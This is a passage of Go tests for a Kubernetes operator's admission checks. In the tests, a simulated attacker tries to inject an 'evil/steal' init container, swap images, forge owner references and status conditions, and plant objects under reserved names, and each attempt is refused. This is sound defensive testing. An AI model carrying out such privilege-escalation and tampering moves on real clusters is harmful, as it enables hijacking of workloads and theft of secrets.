	g.Expect(mallory.Create(ctx, service("prod-workspace", claim))).To(MatchError(ContainSubstring(fmt.Sprintf(written, "services"))))

	// The operator's own, made here by the administrator.
	sts := statefulSet("prod-workspace", claim)
	mustCreate(t, sts)
	sidecar := mergePatch(t, map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{
		"initContainers": []map[string]any{{"name": "steal", "image": "evil/steal"}}}}}})
	g.Expect(mallory.Patch(ctx, sts.DeepCopy(), sidecar)).To(MatchError(ContainSubstring(fmt.Sprintf(written, "statefulsets"))))
	g.Expect(mallory.Delete(ctx, sts.DeepCopy())).To(MatchError(ContainSubstring(fmt.Sprintf(written, "statefulsets"))))
	unchanged(t, &appsv1.StatefulSet{}, sts)

	// One planted under the name the runtime would use is not taken.
	planted := statefulSet("planted-workspace", nil)
	planted.Spec.Template.Spec.InitContainers = []corev1.Container{{Name: "steal", Image: "evil/steal"}}
	g.Expect(mallory.Create(ctx, planted)).To(Succeed())
	g.Expect(env.Client.Patch(ctx, planted.DeepCopy(), mergePatch(t, map[string]any{"metadata": map[string]any{"ownerReferences": claim}}))).
		To(MatchError(ContainSubstring("metadata.ownerReferences: statefulsets planted-workspace exists and was not made by a Workspace: none takes it for its own")))
	unchanged(t, &appsv1.StatefulSet{}, planted)
	plantedService := service("planted-workspace", nil)
	g.Expect(mallory.Create(ctx, plantedService)).To(Succeed())
	g.Expect(env.Client.Patch(ctx, plantedService.DeepCopy(), mergePatch(t, map[string]any{"metadata": map[string]any{"ownerReferences": claim}}))).
		To(MatchError(ContainSubstring("metadata.ownerReferences: services planted-workspace exists and was not made by a Workspace")))
	unchanged(t, &corev1.Service{}, plantedService)

	// Kubernetes' garbage collector ends a foreground deletion (it removes
	// the finalizer) and orphans (it removes the owner references), and
	// changes nothing else.
	gc := as(t, f.ns, "system:serviceaccount:kube-system:generic-garbage-collector",
		rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"statefulsets"}, Verbs: []string{"get", "update", "patch"}})
	held := statefulSet("held-workspace", claim)
	held.Finalizers = []string{metav1.FinalizerDeleteDependents}
	mustCreate(t, held)
	g.Expect(gc.Patch(ctx, held.DeepCopy(), sidecar)).To(MatchError(ContainSubstring(fmt.Sprintf(written, "statefulsets"))))
	g.Expect(gc.Patch(ctx, held, mergePatch(t, map[string]any{"metadata": map[string]any{"finalizers": nil}}))).To(Succeed())
	g.Expect(gc.Patch(ctx, held, mergePatch(t, map[string]any{"metadata": map[string]any{"ownerReferences": nil}}))).To(Succeed())

	// A user's own, without the claim, stay theirs.
	own := service("mine", nil)
	g.Expect(mallory.Create(ctx, own)).To(Succeed())
	g.Expect(mallory.Patch(ctx, own, mergePatch(t, map[string]any{"metadata": map[string]any{"labels": map[string]any{"tier": "web"}}}))).To(Succeed())
	g.Expect(mallory.Delete(ctx, own)).To(Succeed())
}

// TestAttackOperatorOwned: an Update or a Workspace claiming a Stack as
// its controller is the operator's alone to write, status included; a
// user's own Update,
// without that claim, is accepted here and refused by the Update
// controller on a governed Stack's Workspace (TestGovernedWorkspace in
// internal/controller/stack).
func TestAttackOperatorOwned(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	g := NewWithT(t)
	mallory := attacker(t, f.ns, "mallory", rbacv1.PolicyRule{APIGroups: []string{autov1alpha1.GroupVersion.Group},
		Resources: []string{"updates", "workspaces", "updates/status", "workspaces/status"}, Verbs: []string{"get", "create", "update", "patch", "delete"}})
	prod := &pulumiv1.Stack{}
	g.Expect(env.Client.Get(ctx, client.ObjectKey{Namespace: f.ns, Name: "prod"}, prod)).To(Succeed())
	claim := []metav1.OwnerReference{*metav1.NewControllerRef(prod, pulumiv1.GroupVersion.WithKind("Stack"))}
	forged := &autov1alpha1.Update{
		ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "prod-up", OwnerReferences: claim},
		Spec:       autov1alpha1.UpdateSpec{WorkspaceName: "prod", StackName: "prod", Type: autov1alpha1.UpType},
	}
	eventually(t, func() error { return mallory.Create(ctx, forged.DeepCopy()) }).Should(MatchError(ContainSubstring(
		`metadata.ownerReferences: updates made by a Stack, a Promotion or a Pipeline are written only by the stackyard operator (the verb "record" on stacks.pulumi.com`)))
	ws := &autov1alpha1.Workspace{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "prod", OwnerReferences: claim}}
	g.Expect(mallory.Create(ctx, ws)).To(MatchError(ContainSubstring("metadata.ownerReferences: workspaces made by a Stack")))

	// The operator's own, made here by the administrator: the user can
	// neither change nor delete them.
	ws.Spec.Image = "pulumi/pulumi:latest"
	mustCreate(t, ws)
	g.Expect(mallory.Patch(ctx, ws.DeepCopy(), mergePatch(t, map[string]any{"spec": map[string]any{"image": "evil/pulumi"}}))).
		To(MatchError(ContainSubstring("metadata.ownerReferences: workspaces made by a Stack")))
	g.Expect(mallory.Patch(ctx, ws.DeepCopy(), mergePatch(t, map[string]any{"metadata": map[string]any{"ownerReferences": nil}}))).
		To(MatchError(ContainSubstring("metadata.ownerReferences")), "dropping the claim is a change of an operator-owned object")
	g.Expect(mallory.Delete(ctx, ws.DeepCopy())).To(MatchError(ContainSubstring("metadata.ownerReferences")))
	unchanged(t, &autov1alpha1.Workspace{}, ws)

	// Their status is the operator's record too: a Stack takes its
	// Update's Complete condition for a deployment and copies the Secret
	// status.outputs names, and a Workspace's status.setup skips its setup.
	g.Expect(mallory.Status().Patch(ctx, ws.DeepCopy(), mergePatch(t, map[string]any{"status": map[string]any{
		"setup": map[string]any{"digest": "forged"}}}))).
		To(MatchError(ContainSubstring("metadata.ownerReferences: workspaces (status) made by a Stack")))
	unchanged(t, &autov1alpha1.Workspace{}, ws)
	made := forged.DeepCopy()
	made.Name = "prod-made"
	mustCreate(t, made)
	complete := mergePatch(t, map[string]any{"status": map[string]any{
		"outputs": "someone-elses-secret",
		"conditions": []map[string]any{{"type": autov1alpha1.UpdateConditionTypeComplete, "status": "True",
			"reason": "Updated", "message": "forged", "lastTransitionTime": "2026-01-01T00:00:00Z"}},
	}})
	g.Expect(mallory.Status().Patch(ctx, made.DeepCopy(), complete)).
		To(MatchError(ContainSubstring("metadata.ownerReferences: updates (status) made by a Stack")))
	unchanged(t, &autov1alpha1.Update{}, made)

	// Without the claim, the user's Update is theirs, as upstream, and so
	// is its status.
	own := forged.DeepCopy()
	own.OwnerReferences = nil
	g.Expect(mallory.Create(ctx, own)).To(Succeed())
	g.Expect(mallory.Status().Patch(ctx, own, complete)).To(Succeed())

	// Nobody, not even the operator's rights (here the administrator's),
	// takes a user's object of a name the operator would use for its own:
	// it would keep what the user set.
	planted := &autov1alpha1.Workspace{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "planted"},
		Spec: autov1alpha1.WorkspaceSpec{Image: "evil/pulumi"}}
	g.Expect(mallory.Create(ctx, planted)).To(Succeed())
	claimIt := mergePatch(t, map[string]any{"metadata": map[string]any{"ownerReferences": claim}})
	g.Expect(env.Client.Patch(ctx, planted.DeepCopy(), claimIt)).To(MatchError(ContainSubstring(
		"metadata.ownerReferences: workspaces planted exists and was not made by a Stack, a Promotion or a Pipeline: none takes it for its own")))
	unchanged(t, &autov1alpha1.Workspace{}, planted)
	g.Expect(env.Client.Patch(ctx, own.DeepCopy(), claimIt)).To(MatchError(ContainSubstring(
		"metadata.ownerReferences: updates prod-up exists and was not made by a Stack")))
	unchanged(t, &autov1alpha1.Update{}, own)
}
